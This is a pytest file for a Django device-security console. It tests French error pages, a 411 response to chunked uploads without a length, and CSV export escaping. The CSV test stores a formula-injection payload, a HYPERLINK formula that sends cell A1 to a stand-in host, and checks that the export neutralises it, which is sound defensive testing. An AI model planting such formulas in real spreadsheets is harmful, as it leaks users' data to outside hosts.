"""Error pages, uploads without a length, and the CSV export for French spreadsheets."""

from __future__ import annotations

import csv
import http.client
import io
from typing import Any
from urllib.parse import urlparse

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from dentsec.server.console import spreadsheet
from dentsec.server.console.models import Device, Report

from .conftest import login_client, report_bytes


def _is_console_page(body: str) -> bool:
    return 'class="brand"' in body and "console.css" in body


@pytest.mark.django_db
def test_404_is_a_french_console_page(client: Client, tenants: dict[str, Any]) -> None:
    response = client.get("/nulle-part/")
    body = response.content.decode()
    assert response.status_code == 404
    assert _is_console_page(body) and "Page introuvable" in body
    english = client.get("/nulle-part/", HTTP_ACCEPT_LANGUAGE="en")
    assert "Page not found" in english.content.decode()
    api = client.get("/api/v1/nulle-part")
    assert api.status_code == 404 and api.json()["code"] == "not-found"
    # A foreign object is the same page.
    login_client(client, tenants["a"]["lead"])
    foreign = client.get(f"/poste/{tenants['b']['device_staff'].pk}/")
    assert foreign.status_code == 404 and "Page introuvable" in foreign.content.decode()


@pytest.mark.django_db
def test_403_is_a_french_console_page(client: Client, tenants: dict[str, Any]) -> None:
    from django.contrib.auth.models import User

    from dentsec.server.console import security

    orphan = User.objects.create_user("sansprofil", password="x" * 16)
    client.force_login(orphan)  # signed in with no profile: PermissionDenied
    session = client.session
    session[security.SESSION_OTP_KEY] = True
    session.save()
    response = client.get("/postes/")
    assert response.status_code == 403
    assert "Accès refusé" in response.content.decode()


@pytest.mark.django_db
def test_csrf_failure_is_explained_in_french(tenants: dict[str, Any]) -> None:
    client = Client(enforce_csrf_checks=True)
    response = client.post("/connexion/", {"username": "staff_a", "password": "x"})
    body = response.content.decode()
    assert response.status_code == 403
    assert _is_console_page(body) and "Formulaire expiré" in body
    assert "CSRF cookie" not in body  # no technical reason shown


@pytest.mark.django_db
def test_500_is_a_french_console_page(client: Client, tenants: dict[str, Any],
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    from dentsec.server.console import tenancy

    def broken(*args: Any) -> Any:
        raise RuntimeError("boom")

    monkeypatch.setattr(tenancy, "alerts", broken)
    client.raise_request_exception = False
    login_client(client, tenants["a"]["lead"])
    response = client.get("/alertes/")
    body = response.content.decode()
    assert response.status_code == 500
    assert _is_console_page(body) and "Erreur du serveur" in body and "boom" not in body


@pytest.mark.django_db(transaction=True)
def test_a_chunked_upload_without_length_gets_411(live_server: Any,
                                                  tenants: dict[str, Any]) -> None:
    url = urlparse(live_server.url)
    conn = http.client.HTTPConnection(url.hostname or "127.0.0.1", url.port, timeout=30)
    body = report_bytes()
    conn.putrequest("POST", "/api/v1/agent/reports")
    conn.putheader("Authorization", f"Bearer {tenants['a']['credential']}")
    conn.putheader("Content-Type", "application/json")
    conn.putheader("Transfer-Encoding", "chunked")
    conn.endheaders()
    conn.send(f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n")
    response = conn.getresponse()
    problem = response.read().decode()
    conn.close()
    assert response.status, problem == 411
    assert response.status == 411
    assert '"length-required"' in problem and "Content-Length" in problem
    assert Report.objects.filter(device=tenants["a"]["device_staff"]).count() == 1


@pytest.mark.django_db
def test_the_csv_opens_in_a_french_spreadsheet(client: Client,
                                               tenants: dict[str, Any]) -> None:
    a = tenants["a"]
    Device.objects.filter(pk=a["device_shared"].pk).update(
        name='=HYPERLINK("http://example.invalid/?"&A1;"Cliquez")')
    Device.objects.filter(pk=a["device_staff"].pk).update(name="@SUM(1+1)")
    login_client(client, a["lead"])
    response = client.get(f"/cabinet/{a['practice'].pk}/export.csv")
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Poste", "Dernier contact", "Système", "Fin de support", "Score",
                       "Problèmes critiques", "État"]
    names = {r[0] for r in rows[1:]}
    assert names == {"'=HYPERLINK(\"http://example.invalid/?\"&A1;\"Cliquez\")", "'@SUM(1+1)"}
    first = rows[1]
    assert first[3] == "14/10/2025" and first[6] == "actif"
    device = Device.objects.get(pk=a["device_staff"].pk)
    assert device.last_seen is not None
    from django.utils import timezone

    local = timezone.localtime(device.last_seen).strftime("%d/%m/%Y %H:%M")
    assert local in {r[1] for r in rows[1:]}


@given(st.text())
def test_no_cell_starts_a_formula(text: str) -> None:
    cell = spreadsheet.safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.removeprefix("'") == text or cell == text


def test_numbers_stay_numbers() -> None:
    assert spreadsheet.safe_cell(-3) == "-3" and spreadsheet.safe_cell(None) == ""
